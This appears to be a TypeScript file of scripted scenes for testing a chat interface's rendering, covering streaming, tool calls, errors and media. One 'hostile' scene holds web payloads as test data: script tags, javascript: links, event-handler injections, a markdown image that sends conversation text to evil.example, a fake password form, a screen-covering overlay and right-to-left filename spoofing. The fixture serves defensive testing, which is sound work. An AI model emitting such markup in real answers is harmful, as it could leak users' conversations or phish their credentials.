/** The scenes of the harness, one per thing to look at. */
import { RunScript, userMessage } from "./script";
import { ScriptedModel } from "./scripted-model";

/** A fixed state of the chat. */
export interface Scene {
  readonly model: (lang: string) => ScriptedModel;
  readonly play?: (model: ScriptedModel) => void;
  readonly gone?: boolean;
}

const TABLE_AND_CODE = `Here is what the three runs cost, and a function that computes it.

| Model | Tokens | Price |
| :-- | --: | --: |
| small | 12,400 | 0.02 |
| medium | 9,100 | 0.11 |
| large | 7,800 | 0.48 |

1. Load the **usage** of each run.
2. Multiply by the price list (\`prices.json\`).
   - cached tokens cost a *tenth*
3. Sum it up.

\`\`\`python
from dataclasses import dataclass


@dataclass
class Run:
    """One call of a model."""

    tokens: int
    price: float = 0.02  # per thousand


def cost(runs: list[Run]) -> float:
    return sum(run.tokens / 1000 * run.price for run in runs)
\`\`\`

> The large model is *twenty times* as dear. See [the price list](https://example.com/prices).
`;

const HOSTILE = `A **helpful** answer <script>document.title = "owned"</script> with [a link](javascript:document.title='owned') and
[https://bank.example](https://evil.example/login), <img src="https://evil.example/pixel.png?secret=1" onerror="document.title='owned'" alt="chart">

![exfiltrate](https://evil.example/log?q=conversation)

<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Log in</button></form>

<div style="position:fixed;inset:0;background:red" onclick="document.title='owned'">covered?</div> <style>body{display:none}</style>

<svg onload="document.title='owned'"><circle r="40"/></svg> <a href="data:text/html,<script>1</script>">data link</a> and \u202egpj.exe\u202c and \u001b[31mred\u001b[0m terminal

A small data image: ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC) and Vec<String> in prose.

${"A".repeat(3000)}
`;

function live(script: RunScript, question: string, log = ""): (lang: string) => ScriptedModel {
  return (lang) =>
    new ScriptedModel({
      lang,
      status: { state: "running", detail: "", run_id: script.runId },
      turns: [script.turn(question, { log })],
    });
}

function done(
  script: RunScript,
  question: string,
  extra: Record<string, unknown> = {},
): (lang: string) => ScriptedModel {
  return (lang) => new ScriptedModel({ lang, turns: [script.turn(question, extra)] });
}

const lookup = { city: "Lisbon", unit: "celsius", days: 3 };
const weather = {
  city: "Lisbon",
  days: [
    { day: "Mon", high: 24 },
    { day: "Tue", high: 22 },
    { day: "Wed", high: 26 },
  ],
};

export const SCENES: Readonly<Record<string, Scene>> = {
  empty: {
    model: (lang) =>
      new ScriptedModel({
        lang,
        description: "Answers questions about the weather and remembers what you said.",
      }),
  },
  streaming: {
    model: live(
      new RunScript().text(TABLE_AND_CODE.slice(0, 870), "message", true),
      "What did the three runs cost? Show me how you compute it.",
    ),
  },
  answer: {
    model: done(
      new RunScript().text(TABLE_AND_CODE).end(),
      "What did the three runs cost? Show me how you compute it.",
    ),
  },
  tool: {
    model: done(
      new RunScript()
        .text(
          "The user asks about Lisbon. I should look the weather up rather than guess.",
          "reasoning",
        )
        .tool("get_weather", lookup, weather)
        .tool("add", { a: 2, b: 40 }, 42)
        .text("It will be **22–26 °C** in Lisbon over the next three days, warmest on Wednesday.")
        .end(),
      "How warm will it be in Lisbon?",
      { log: "fetching Lisbon\n3 days\n" },
    ),
  },
  running: {
    model: live(
      new RunScript().text("Let me look.", "reasoning").tool("get_weather", lookup),
      "How warm will it be in Lisbon?",
    ),
  },
  thinking: {
    model: live(
      new RunScript().text("Perhaps I should first find out which", "reasoning", true),
      "Plan my week.",
    ),
  },
  stopped: {
    model: done(
      new RunScript()
        .text(
          "The first thing to know about Lisbon is that it is built on seven hills, and",
          "message",
          true,
        )
        .end("canceled"),
      "Tell me all about Lisbon.",
    ),
  },
  stopping: {
    model: (lang) =>
      new ScriptedModel({
        lang,
        status: {
          state: "stopping",
          detail: "still running in slow_sum(), line 12 of cell 4",
          run_id: "response_1",
        },
        turns: [new RunScript().tool("slow_sum", { n: 1e9 }).turn("Add everything up.")],
      }),
  },
  error: {
    model: done(
      new RunScript()
        .tool("get_weather", lookup, { error: "no such city" }, { status: "failed" })
        .end("failed", {
          error: {
            code: "MODEL_UNREACHABLE",
            message: "The model at 127.0.0.1:8123 did not answer within 30 s. Is it running?",
          },
        }),
      "How warm will it be in Lisbon?",
    ),
  },
  gone: {
    model: done(
      new RunScript().text("It will be **24 °C**.").end(),
      "How warm will it be in Lisbon?",
    ),
    gone: true,
  },
  hostile: {
    model: done(new RunScript().text(HOSTILE).end(), "Summarise this page.\u202e \u001b[2J"),
  },
  notices: {
    model: (lang) => new ScriptedModel({ lang, schema: 2, turns: [] }),
    play: (model) => {
      model.say({
        type: "notice",
        level: "warning",
        text: "The cell failed: the agent of the run before still serves.",
      });
      model.say({
        type: "notice",
        level: "info",
        text: "friday was reloaded; the conversation goes on.",
      });
    },
  },
  media: {
    model: done(
      new RunScript()
        .media({ type: "image", image_url: "https://evil.example/a/very/long/path/picture.png" })
        .media({ type: "file", filename: "report.csv", file_data: "YSxiCjEsMgo=" })
        .media({ type: "data", data: { answer: 42 } })
        .media({ type: "refusal", refusal: "I would rather not." })
        .end(),
      "Show me files.",
    ),
  },
  talk: {
    model: (lang) =>
      new ScriptedModel({
        lang,
        turns: [1, 2, 3].map((n) =>
          new RunScript(`response_${n}`).text(TABLE_AND_CODE).end().turn(`Question ${n}`),
        ),
      }),
  },
};

/** A long answer told in many deltas, for measuring frames. */
export function longAnswer(
  tokens: number,
  kind: "prose" | "line" | "code" | "list" | "table",
): string[] {
  const words = "the quick brown fox jumps over the lazy dog and then it rests".split(" ");
  const all: string[] =
    kind === "code" ? ["```python\n"] : kind === "table" ? ["| a | b |\n| - | - |\n"] : [];
  for (let i = 0; i < tokens; i++) {
    const word = words[i % words.length] ?? "";
    if (kind === "line") all.push(word);
    else if (kind === "code") all.push(i % 9 === 8 ? "\n" : `${word}(${i}) `);
    else if (kind === "list") all.push(i % 12 === 0 ? `\n- **${word}** ` : `${word} `);
    else if (kind === "table")
      all.push(i % 8 === 0 ? `${i ? "|\n" : ""}| ${word} ` : i % 8 === 4 ? "| " : `${word} `);
    else all.push(i % 80 === 79 ? ".\n\n" : i % 160 === 40 ? `**${word}** ` : `${word} `);
  }
  return all;
}

export { RunScript, userMessage };
